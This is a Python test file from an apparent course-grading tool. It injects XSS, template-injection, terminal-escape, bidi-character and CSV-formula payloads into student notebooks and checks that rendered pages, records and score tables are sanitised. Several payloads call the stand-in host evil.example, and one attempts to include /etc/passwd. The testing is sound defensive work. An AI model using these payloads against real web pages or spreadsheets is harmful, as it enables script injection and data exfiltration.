# ruff: noqa: E501 - an attack is a text, in one line where its form does not matter
"""Attacks on who reads: the pages of students and teachers, the report, the terminal, the table of scores."""

import csv
import html
import json
import re
from dataclasses import replace

import pytest

from coursekit.grading.scores_csv import write_csv
from tests.redteam.attack import ALL, Attack, ways
from tests.redteam.homework import NAME
from tests.redteam.suite import *  # noqa: F403
from tests.support import markup

MARKUP = {
    "a script": "<script>alert(1)</script>",
    "a script that closes what it is in": "</pre></td></title></style><script src=//evil.example/x.js></script>",
    "event handlers": "<img src=x onerror=alert(1)><svg onload=alert(1)><body onpageshow=alert(1)>",
    "links that act": "[x](javascript:alert(1)) <a href=javascript:alert(1)>x</a> <a href='data:text/html,x'>y</a>",
    "pictures from elsewhere": "![x](http://evil.example/x.png) <img src=http://evil.example/x.png> <link rel=stylesheet href=//evil.example>",
    "frames, forms and redirection": "<iframe src=//evil.example></iframe><form action=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example>",
    "style": "<style>*{display:none}</style><div style='position:fixed;inset:0'>FULL MARKS</div>",
    "vectors and mathematics": "<svg><script>alert(1)</script><foreignObject><body onload=alert(1)></svg><math href=javascript:alert(1)>",
    "template code": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "entities and comments": "&lt;script&gt; &#60;script&#62; <!-- --><![CDATA[<script>]]> <!--><script>alert(1)</script>",
    "terminal escapes": "\x1b]0;evil\x07\x1b[2J\x1b[31mFULL\x1b[0m\x9b2J\x08\x08\r17/17",
    "characters that reorder": "\u202e\u2066\u200f</\u202e>\u2028\u2029\ufeff\U000e0041",
    "half characters and controls": "\udc80\ud800\x00\x0b\x7f",
    "formulas": "=HYPERLINK(\"http://evil.example\")\n+1\n-1\n@SUM(1)\n\t=1",
}  # fmt: skip


def everywhere(text: str):
    """Return a change that puts a text wherever the notebook has room for one."""

    def change(node: dict) -> None:
        odd = {
            "text/html": text, "text/plain": text, "image/svg+xml": text, "application/javascript": text,
            "text/markdown": text, "text/latex": text, "image/png": text, text: text,
        }  # fmt: skip
        outputs = [
            {"output_type": "display_data", "data": odd, "metadata": {"image/png": {"alt": text, "width": text}}},
            {"output_type": "execute_result", "data": {"text/html": text}, "metadata": {}, "execution_count": text},
            {"output_type": "stream", "name": text, "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
            {"output_type": text, "data": text},
        ]
        for cell in node["cells"]:
            if cell["cell_type"] == "code":
                cell["outputs"] = outputs
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "report":
                cell["source"] = text
        node["cells"] += [
            {"cell_type": kind, "metadata": {"tags": [text]}, "source": text, "attachments": {text: {text: text}}}
            for kind in ("markdown", "raw", text)
        ]
        node["cells"].append(
            {"cell_type": "code", "metadata": {}, "outputs": outputs, "source": f"raise ValueError({text!r})"}
        )
        node["metadata"] = {"title": text, "authors": [{"name": text}], "kernelspec": {"name": text}}

    return change


ATTACKS: list[Attack] = ways(
    "injection",
    *(
        {
            "way": way,
            "answers": {"last": f"def last(x):\n    raise ValueError({text!r})"},
            "change": everywhere(text),
            "honest": ALL,
            "loses": frozenset({"last"}),
            "told": "ValueError",
        }
        for way, text in MARKUP.items()
    ),
)


@pytest.fixture(scope="module")
def skeletons(arena):
    """The tags and attributes of each attacker's page."""
    return {student: markup.read(arena.page(student)) for student in arena.students}


def test_no_markup_of_a_student_is_markup_of_the_page(arena, skeletons, attack):
    """No element that acts, no handler, no address but anchors and pictures as data; a policy that admits nothing."""
    page = skeletons[arena.student(attack)]
    tags = {tag for tag, _, _ in page.attributes}
    assert not tags & {"script", "iframe", "form", "base", "object", "embed", "link", "input", "foreignobject"}
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in ("href", "src", "action", "xlink:href", "srcset"):
            assert value.startswith(("#", "data:image/png;base64,", "data:image/jpeg;base64,")), (tag, name, value)
    text = arena.page(arena.student(attack))
    assert "default-src 'none'" in html.unescape(text)
    assert "\x1b" not in text and "\u202e" not in text
    text.encode("utf-8")


def test_the_record_and_the_table_are_plain(arena, attack, tmp_path):
    """Records can be written as JSON, no cell of the table of scores is a formula, the copy fits nbformat."""
    student = arena.student(attack)
    result = arena.result(student)
    json.dumps(result.as_json(), ensure_ascii=False).encode()
    write_csv(
        [replace(result, student=line) for line in MARKUP[attack.way].split("\n") if line.isprintable()],
        tmp_path / "scores.csv",
    )
    with (tmp_path / "scores.csv").open(encoding="utf-8-sig", errors="replace", newline="") as file:
        assert not [value for row in csv.reader(file) for value in row if re.match(r"[=+@\t\r-]", value)]
    copied = arena.small.course.autograded(student, NAME) / f"{NAME}.ipynb"
    assert json.loads(copied.read_text("utf-8"))["nbformat"] == 4
